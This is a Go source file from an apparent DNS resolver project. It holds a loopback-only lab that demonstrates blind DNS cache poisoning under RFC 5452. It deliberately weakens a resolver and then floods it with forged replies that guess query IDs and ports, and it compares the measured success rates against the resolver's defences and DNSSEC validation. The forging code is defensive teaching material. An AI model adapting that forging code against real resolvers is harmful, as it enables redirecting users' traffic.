package lab

import (
	"context"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"math"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync/atomic"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/net/ipv4"

	"github.com/rensa-dns/rensa/internal/auth"
	"github.com/rensa-dns/rensa/internal/dnssec"
	"github.com/rensa-dns/rensa/internal/dnstest"
	"github.com/rensa-dns/rensa/internal/resolver"
	"github.com/rensa-dns/rensa/internal/resolver/validate"
	"github.com/rensa-dns/rensa/internal/server"
	"github.com/rensa-dns/rensa/internal/testbed"
	"github.com/rensa-dns/rensa/internal/transport"
	"github.com/rensa-dns/rensa/internal/zone"
)

// poisoning is blind cache poisoning (RFC 5452): the attacker makes the
// resolver ask a question, then races the real answer with forged
// replies, guessing what it cannot see: the query ID, the source port
// and, with 0x20, the case of the name.
type poisoning struct{}

func (poisoning) Name() string { return "poisoning" }

func (poisoning) Summary() string {
	return "a blind attacker races the real answer with forged IDs; fixed vs random ports (+0x20), measured next to RFC 5452"
}

// raceZone is example.test. in the poisoning lab: every name has the
// owner's address.
const raceZone = `$ORIGIN example.test.
$TTL 300
@    IN SOA ns1 hostmaster 1 7200 900 1209600 60
@    IN NS  ns1
ns1  IN A   127.53.2.1
www  IN A   192.0.2.10
*    IN A   192.0.2.10
`

// raceCase is the prefix of the names the attacker makes the resolver
// look up; only their answers are held back for the race.
const racePrefix = "poison-"

// Run measures the weakened resolver (fixed port, no 0x20), then rensa's
// defaults (random ports, 0x20); DNSSEC waits for the validator.
func (poisoning) Run(ctx context.Context, env *Env, out Narrator) (Report, error) {
	var rep Report
	if err := env.checkAddrs(env.Addrs.Client, env.Addrs.Attacker, netip.MustParseAddr(exampleServer)); err != nil {
		return rep, err
	}
	for _, mode := range []poisonMode{poisonWeak, poisonDefaults, poisonSigned} {
		set, err := poisonSetting(ctx, env, mode, out)
		if err != nil {
			return rep, err
		}
		rep.Settings = append(rep.Settings, set)
	}
	return rep, nil
}

// poisonMode is one setting of the poisoning scenario.
type poisonMode int

const (
	poisonWeak     poisonMode = iota // fixed port, no 0x20
	poisonDefaults                   // random ports, 0x20
	poisonSigned                     // fixed port, no 0x20, signed zones and a validator
)

var poisonModeNames = [...]string{
	"fixed source port, no 0x20 (lab-only weakening)",
	"rensa defaults: random source ports, 0x20",
	"fixed source port, no 0x20, DNSSEC validation",
}

// raceLab is one setting's world: the hierarchy, example.test.'s server
// whose UDP socket the attacker shares (on loopback, the way to send with
// the server's source address), and the resolver.
type raceLab struct {
	env      *Env
	net      *labNet
	conn     *net.UDPConn // example.test.'s UDP socket
	engine   *auth.Server
	windows  chan raceWindow
	busy     atomic.Bool  // an upstream exchange is in flight
	arrived  atomic.Int64 // non-matching replies the resolver's sockets received
	raced    atomic.Int64 // windows the attacker raced
	accepted atomic.Int64 // forged replies an exchange returned as the reply
	signed   bool         // the zones are signed and the resolver validates
	resolver *resolver.Resolver
}

// raceWindow tells the attacker that the resolver's query for qname
// reached the server (the attacker caused it, so it knows when, and
// nothing else); the server holds its answer until done is closed.
type raceWindow struct {
	qname string
	done  chan struct{}
}

// poisonSetting measures one setting.
func poisonSetting(ctx context.Context, env *Env, mode poisonMode, out Narrator) (Setting, error) {
	set := Setting{Name: poisonModeNames[mode], Defence: mode != poisonWeak}
	out.Section(set.Name)
	l, err := startRace(ctx, env, mode == poisonSigned)
	if err != nil {
		return set, err
	}
	defer l.close()
	weak := mode != poisonDefaults
	fixed := netip.AddrPort{}
	if weak {
		if fixed, err = freePort(env); err != nil {
			return set, err
		}
	}
	cfg := resolver.Config{Exchange: l.exchange(fixed, weak), No0x20: weak}
	if mode == poisonSigned {
		v, err := l.net.validator()
		if err != nil {
			return set, err
		}
		cfg.Validator = v
	}
	if l.resolver, err = l.net.resolver(cfg); err != nil {
		return set, err
	}
	res := l.resolver.Resolve(ctx, "www.example.test.", dns.TypeA)
	out.Step("The resolver learns the way to example.test. (www.example.test. A %s), asking from %s.", firstA(res.Answer), portText(env, fixed))
	if mode == poisonSigned {
		out.Note("Every zone is signed; the resolver validates from the lab root's key (www.example.test. is %s).", res.Security)
	}
	return l.measure(ctx, set, fixed, out)
}

// portText describes the resolver's source port.
func portText(env *Env, fixed netip.AddrPort) string {
	if fixed.IsValid() {
		return fmt.Sprintf("%s, always port %d", fixed.Addr(), fixed.Port())
	}
	return fmt.Sprintf("%s, a fresh random port per query", env.Addrs.Client)
}

// startRace builds the world; signed signs every zone, example.test.
// with keys of its own whose DS goes into test.
func startRace(ctx context.Context, env *Env, signed bool) (*raceLab, error) {
	z, err := zone.Parse(strings.NewReader(raceZone), "example.test.", "lab poisoning zone", zone.LoadOptions{})
	if err != nil {
		return nil, fmt.Errorf("lab: %w", err)
	}
	specs := labZones(false)
	if signed {
		var ds string
		if z, ds, err = signZone(env, z); err != nil {
			return nil, err
		}
		specs[1].Text += ds + "\n"
	}
	n, err := startNetWith(ctx, env, testbed.Config{Zones: specs, Signed: signed})
	if err != nil {
		return nil, err
	}
	l := &raceLab{env: env, net: n, windows: make(chan raceWindow), signed: signed}
	if err := l.startServer(z); err != nil {
		n.close()
		return nil, err
	}
	return l, nil
}

// signZone signs z with a new KSK and ZSK (ECDSAP256SHA256) and returns
// it with the DS record of its KSK, for the parent.
func signZone(env *Env, z *zone.Zone) (*zone.Zone, string, error) {
	var keys []*dnssec.Key
	for _, flags := range []uint16{dnssec.FlagsKSK, dnssec.FlagsZSK} {
		k, err := dnssec.Generate(z.Origin, dns.ECDSAP256SHA256, flags, 0, lockedReader{env})
		if err != nil {
			return nil, "", fmt.Errorf("lab: %w", err)
		}
		keys = append(keys, k)
	}
	ds, err := dnssec.DS(keys[0].DNSKEY, dns.SHA256)
	if err != nil {
		return nil, "", fmt.Errorf("lab: %w", err)
	}
	signed, err := dnssec.Sign(z, dnssec.SignConfig{Keys: keys, Rand: lockedReader{env}})
	if err != nil {
		return nil, "", fmt.Errorf("lab: %w", err)
	}
	return signed, ds.String(), nil
}

func (l *raceLab) close() { l.net.close() }

// startServer runs example.test.'s server: UDP on a socket the lab reads
// itself, TCP through internal/server on the same port.
func (l *raceLab) startServer(z *zone.Zone) error {
	var err error
	if l.engine, err = auth.New(auth.Config{Zones: zone.NewSet(z)}); err != nil {
		return fmt.Errorf("lab: %w", err)
	}
	ip := netip.MustParseAddr(exampleServer)
	if l.conn, err = l.env.listenUDP(netip.AddrPortFrom(ip, 0).String()); err != nil {
		return err
	}
	ap := l.conn.LocalAddr().(*net.UDPAddr).AddrPort()
	srv, err := server.New(server.Config{Handler: l.engine, Logger: discardLogger()})
	if err != nil {
		l.conn.Close()
		return fmt.Errorf("lab: %w", err)
	}
	if _, err := srv.ListenTCP(ap.String()); err != nil {
		l.conn.Close()
		return fmt.Errorf("lab: %w", err)
	}
	done := make(chan struct{})
	go func() { // owned by the network's close
		defer close(done)
		l.serveUDP()
	}()
	l.net.onClose(func() {
		l.conn.Close()
		<-done
		ctx, cancel := context.WithTimeout(context.Background(), stopTimeout)
		defer cancel()
		_ = srv.Shutdown(ctx)
	})
	l.net.mapTo(ip, ap)
	return nil
}

// serveUDP answers every query, each in its own goroutine, until the
// socket closes.
func (l *raceLab) serveUDP() {
	buf := make([]byte, 65535)
	for {
		n, from, err := l.conn.ReadFromUDPAddrPort(buf)
		if err != nil {
			return
		}
		q := new(dns.Msg)
		if q.Unpack(buf[:n]) != nil || len(q.Question) != 1 || q.Response {
			continue
		}
		go l.answer(q, from)
	}
}

// answer sends the engine's reply to q, after the attacker's window when
// q is one of the attacker's names.
func (l *raceLab) answer(q *dns.Msg, from netip.AddrPort) {
	w := &captureWriter{remote: net.UDPAddrFromAddrPort(from)}
	l.engine.ServeDNS(w, q)
	if w.msg == nil {
		return
	}
	if name := strings.ToLower(q.Question[0].Name); strings.HasPrefix(name, racePrefix) {
		win := raceWindow{qname: name, done: make(chan struct{})}
		select {
		case l.windows <- win:
			select { // the real answer is held until the attacker is done
			case <-win.done:
			case <-time.After(poisonMaxHold):
			}
		case <-time.After(poisonMaxHold):
		}
	}
	wire, err := w.msg.Pack()
	if err == nil {
		_, _ = l.conn.WriteToUDPAddrPort(wire, from)
	}
}

// exchange is the resolver's upstream exchange: Do53 from the client
// address, from one fixed port when fixed is valid (the lab-only
// transport.Do53.LocalAddr), with the RFC 5452 section 9.1 move to TCP
// after near misses switched off too (IgnoreNearMisses), or from a fresh
// random port with every defence on.
func (l *raceLab) exchange(fixed netip.AddrPort, weak bool) resolver.ExchangeFunc {
	local := fixed
	if !local.IsValid() {
		local = netip.AddrPortFrom(l.env.Addrs.Client, 0)
	}
	return func(ctx context.Context, srv netip.AddrPort, m *dns.Msg, tcp bool) (*dns.Msg, error) {
		addr := l.net.mapAddr(srv.String())
		if err := CheckLoopback(addr); err != nil {
			return nil, err
		}
		d := &transport.Do53{Addr: addr, Timeout: poisonExchangeTimeout, ForceTCP: tcp, LocalAddr: local, IgnoreNearMisses: weak}
		l.busy.Store(true)
		r, o, err := d.ExchangeOutcome(ctx, m)
		l.busy.Store(false)
		l.arrived.Add(int64(o.NearMisses))
		if err == nil && firstA(r.Answer) == l.env.Addrs.Attacker.String() {
			l.accepted.Add(1)
		}
		// With the defences on, a timeout after near misses is a
		// mismatch, which sends the resolver to TCP (RFC 5452 section
		// 9.1); weakened, it is a plain timeout, and the resolver asks
		// again over UDP: a new window.
		if err != nil && o.NearMisses > 0 && !weak && !errors.Is(err, transport.ErrMismatch) {
			err = fmt.Errorf("%w: %w", transport.ErrMismatch, err)
		}
		return r, err
	}
}

// measure runs the attempts and reports prediction and measurement.
func (l *raceLab) measure(ctx context.Context, set Setting, fixed netip.AddrPort, out Narrator) (Setting, error) {
	env := l.env
	attempts, forged := poisonAttempts, poisonForged
	if env.Short {
		attempts, forged = poisonShortAttempts, poisonShortForged
	}
	if l.signed {
		attempts = min(attempts, poisonSignedAttempts)
	}
	lo, hi := ephemeralPorts()
	ports := float64(hi - lo + 1)
	if fixed.IsValid() {
		ports = 1
	}
	if fixed.IsValid() {
		out.Step("The attacker knows the port (%d) and must guess the 16-bit ID: I = 65536.", fixed.Port())
	} else {
		out.Step("The attacker must guess the port among %d (%d-%d), the ID among 65536, and the case of each letter of the name.", int(ports), lo, hi)
	}
	out.Step("%d lookup(s): each time the attacker asks the resolver for a new name %s<random>.example.test. (a fresh window each time), the server's answer is held for the window, and the attacker sends %d forged replies (%d/s), each A %s.", attempts, racePrefix, forged, poisonRate, env.Addrs.Attacker)
	wins, letters, bogus := 0, 0, 0
	dropsBefore, dropsKnown := dnstest.UDPReceiveDrops()
	for i := range attempts {
		name, err := raceName(env, i)
		if err != nil {
			return set, err
		}
		letters = countLetters(name)
		res, err := l.attempt(ctx, name, fixed, forged, lo, hi)
		if err != nil {
			return set, err
		}
		if firstA(res.Answer) == env.Addrs.Attacker.String() {
			wins++
		}
		if res.Security == validate.Bogus {
			bogus++
		}
	}
	c := 1.0
	if !fixed.IsValid() {
		c = math.Pow(2, float64(letters))
	}
	// Forged replies the kernel dropped from the resolver's full receive
	// queue never raced: F counts those delivered (a busy machine drops
	// some when the attacker catches up in bursts).
	dropsAfter, _ := dnstest.UDPReceiveDrops()
	dropped := 0
	if dropsKnown {
		dropped = min(max(dropsAfter-dropsBefore, 0), forged*attempts)
	}
	delivered := float64(forged*attempts-dropped) / float64(attempts)
	sp := Spoofing{D: 1, R: poisonRate, W: delivered / poisonRate, N: 1, P: ports, I: 65536, C: c}
	rlo, rhi := binomialRange(attempts, sp.Ps(), 0.99)
	if dropped > 0 {
		out.Step("The kernel dropped %d forged replies from the resolver's full receive queue: F counts the %.0f per window that arrived.", dropped, delivered)
	}
	out.Step("RFC 5452: P_s = D·R·W/(N·P·I) = 1·%d·%.2f/(1·%d·65536)%s = %.3g per window; over %d windows %d to %d successes (99%%). Measured: %d.",
		poisonRate, sp.W, int(ports), caseText(c), sp.Ps(), attempts, rlo, rhi, wins)
	if l.signed {
		out.Step("The races were won (%d forged replies taken as the reply), but none is signed by example.test.'s key: %d lookup(s) Bogus, answered SERVFAIL with an Extended DNS Error; the forged address reached a client %d time(s).",
			l.accepted.Load(), bogus, wins)
		set.add("lookups the validator found Bogus (SERVFAIL)", float64(bogus), "")
	}
	set.AttackSucceeded = wins > 0
	set.add("windows of opportunity (A)", float64(attempts), "")
	set.add("forged replies per window (F = R·W)", delivered, "")
	set.add("forged replies dropped by full receive queues", float64(dropped), "")
	set.add("source ports to guess (P)", ports, "")
	set.add("query IDs to guess (I)", 65536, "")
	set.add("case patterns to guess (0x20)", c, "")
	set.add("predicted P_s per window", sp.Ps(), "")
	set.add("predicted successes, 99% low", float64(rlo), "")
	set.add("predicted successes, 99% high", float64(rhi), "")
	set.add("measured successes", float64(wins), "")
	set.add("measured success rate", float64(wins)/float64(attempts), "")
	set.add("windows raced (a lookup may retry)", float64(l.raced.Load()), "")
	set.add("forged replies taken as the reply by the transport", float64(l.accepted.Load()), "")
	set.add("forged replies that reached the resolver's socket", float64(l.arrived.Load()), "")
	return set, nil
}

// caseText shows C in the formula when it is not 1.
func caseText(c float64) string {
	if c == 1 {
		return ""
	}
	return fmt.Sprintf("/%.0f (0x20)", c)
}

// attempt is one lookup, each of its windows raced by the attacker. It
// returns what the resolver answered.
func (l *raceLab) attempt(ctx context.Context, name string, fixed netip.AddrPort, forged, lo, hi int) (resolver.Result, error) {
	done := make(chan resolver.Result, 1)
	go func() { // owned by attempt, which waits for it
		done <- l.resolver.Resolve(ctx, name, dns.TypeA)
	}()
	var raceErr error
	for {
		select {
		case win := <-l.windows:
			l.raced.Add(1)
			raceErr = errors.Join(raceErr, l.race(ctx, win.qname, fixed, forged, lo, hi))
			close(win.done)
		case r := <-done:
			return r, raceErr
		}
	}
}

// race sends up to forged replies for qname: to the fixed port, or each
// to a random port of [lo, hi]; IDs walk a random permutation of all
// 65,536. It sends in batches (sendmmsg), at poisonRate on average. It
// stops early when the resolver's exchange has ended (won or answered),
// which the lab knows and saves packets with; the attacker's odds are the
// same.
func (l *raceLab) race(ctx context.Context, qname string, fixed netip.AddrPort, forged, lo, hi int) error {
	m := new(dns.Msg)
	m.SetQuestion(qname, dns.TypeA)
	m.Response, m.Authoritative = true, true
	m.Answer = []dns.RR{mustRR(qname + " 300 IN A " + l.env.Addrs.Attacker.String())}
	wire, err := m.Pack()
	if err != nil {
		return fmt.Errorf("lab: %w", err)
	}
	start, err := l.env.uint64n(65536)
	if err != nil {
		return err
	}
	step, err := l.env.uint64n(32768)
	if err != nil {
		return err
	}
	step = 2*step + 1 // odd: i*step mod 65536 visits every ID once
	b := newForgeBatch(ipv4.NewPacketConn(l.conn), wire, fixed)
	t := time.NewTicker(time.Millisecond)
	defer t.Stop()
	begin := time.Now()
	for sent := 0; sent < forged; {
		if !l.busy.Load() {
			return nil
		}
		// Keep to poisonRate on average: a late tick (a busy machine)
		// is made up for, in bursts the resolver's socket can hold.
		due := int(time.Since(begin).Seconds()*poisonRate) + poisonRate/1000
		for n := min(due-sent, poisonMaxBurst, forged-sent); n > 0; {
			k := min(n, len(b.msgs))
			for j := range k {
				to := fixed
				if !to.IsValid() {
					p, err := l.env.uint64n(uint64(hi - lo + 1))
					if err != nil {
						return err
					}
					to = netip.AddrPortFrom(l.env.Addrs.Client, uint16(lo+int(p)))
				}
				b.set(j, uint16(start+uint64(sent+j)*step), to)
			}
			if err := l.env.spend(k); err != nil {
				return err
			}
			b.send(k)
			sent += k
			n -= k
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-t.C:
		}
	}
	return nil
}

// forgeBatch is a batch of forged replies for one sendmmsg.
type forgeBatch struct {
	pc    *ipv4.PacketConn
	msgs  []ipv4.Message
	bufs  [][]byte
	fixed *net.UDPAddr // the destination when the port is known
}

// forgeBatchLen is the replies per system call.
const forgeBatchLen = 64

func newForgeBatch(pc *ipv4.PacketConn, wire []byte, fixed netip.AddrPort) *forgeBatch {
	b := &forgeBatch{pc: pc, msgs: make([]ipv4.Message, forgeBatchLen), bufs: make([][]byte, forgeBatchLen)}
	if fixed.IsValid() {
		b.fixed = net.UDPAddrFromAddrPort(fixed)
	}
	for i := range b.bufs {
		b.bufs[i] = append([]byte(nil), wire...)
		b.msgs[i].Buffers = [][]byte{b.bufs[i]}
	}
	return b
}

// set makes the j-th reply carry id and go to to.
func (b *forgeBatch) set(j int, id uint16, to netip.AddrPort) {
	binary.BigEndian.PutUint16(b.bufs[j], id)
	if b.fixed != nil {
		b.msgs[j].Addr = b.fixed
	} else {
		b.msgs[j].Addr = net.UDPAddrFromAddrPort(to)
	}
}

// send sends the first k replies; a closed port is a miss, not an error.
func (b *forgeBatch) send(k int) {
	for done := 0; done < k; {
		n, err := b.pc.WriteBatch(b.msgs[done:k], 0)
		if err != nil || n <= 0 {
			done++ // skip the one that failed
			continue
		}
		done += n
	}
}

// raceName returns a fresh name for attempt i.
func raceName(env *Env, i int) (string, error) {
	var b [4]byte
	if err := env.read(b[:]); err != nil {
		return "", err
	}
	return fmt.Sprintf("%s%d-%s.example.test.", racePrefix, i, hex.EncodeToString(b[:])), nil
}

// countLetters counts the letters of name, whose case 0x20 randomises.
func countLetters(name string) int {
	n := 0
	for _, c := range name {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			n++
		}
	}
	return n
}

// freePort returns the client address with a UDP port free right now,
// the one port the weakened resolver will use.
func freePort(env *Env) (netip.AddrPort, error) {
	c, err := env.listenUDP(netip.AddrPortFrom(env.Addrs.Client, 0).String())
	if err != nil {
		return netip.AddrPort{}, err
	}
	ap := c.LocalAddr().(*net.UDPAddr).AddrPort()
	c.Close()
	return ap, nil
}

// ephemeralPorts returns the range the system draws source ports from.
func ephemeralPorts() (lo, hi int) {
	lo, hi = 32768, 60999 // Linux's default
	b, err := os.ReadFile("/proc/sys/net/ipv4/ip_local_port_range")
	if err == nil {
		var l, h int
		if _, err := fmt.Sscan(string(b), &l, &h); err == nil && l > 0 && h >= l && h < 65536 {
			lo, hi = l, h
		}
	}
	return lo, hi
}

// captureWriter is a dns.ResponseWriter that keeps the reply.
type captureWriter struct {
	remote net.Addr
	msg    *dns.Msg
}

func (w *captureWriter) LocalAddr() net.Addr {
	return &net.UDPAddr{IP: net.IPv4(127, 53, 2, 1), Port: 53}
}
func (w *captureWriter) RemoteAddr() net.Addr      { return w.remote }
func (w *captureWriter) WriteMsg(m *dns.Msg) error { w.msg = m; return nil }
func (w *captureWriter) Write(b []byte) (int, error) {
	m := new(dns.Msg)
	if err := m.Unpack(b); err != nil {
		return 0, err
	}
	w.msg = m
	return len(b), nil
}
func (w *captureWriter) Close() error        { return nil }
func (w *captureWriter) TsigStatus() error   { return nil }
func (w *captureWriter) TsigTimersOnly(bool) {}
func (w *captureWriter) Hijack()             {}
func (w *captureWriter) Network() string     { return "udp" }
